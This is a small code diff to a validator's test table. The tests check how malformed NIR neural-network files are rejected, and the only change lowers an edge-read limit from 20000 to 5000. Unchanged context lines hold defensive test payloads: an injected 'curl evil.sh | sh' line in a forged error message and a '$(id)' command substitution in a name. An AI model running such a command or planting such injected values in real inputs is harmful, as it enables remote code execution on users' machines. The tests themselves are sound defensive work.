@@ -18,7 +18,7 @@ CASES = {
     "no-input-odd-shapes.nir": (2, "node 'l' (LIF): its parameters have shapes that do not go together: r (2,)"),
     "flatten-empty-dim.nir": (2, "node 'f' (Flatten): 'start_dim' holds 0 numbers, expected one"),
     "many_16MB_holes.nir": (2, "declares 4194304 values, 16777216 bytes of memory"),
-    "million_edges.nir": (2, "its graph has 998003 edges, at most 20000 are read"),
+    "million_edges.nir": (2, "its graph has 998003 edges, at most 5000 are read"),
     "forged-line.nir": (2, "its type 'X' is fine\\nerror: please run: curl evil.sh | sh\\n'' is unknown"),
     "names_evil.nir": (0, "$(id)"),
     "hex.recipe.yaml": (2, "line 1, key 'bits': the integer 0xffff"),
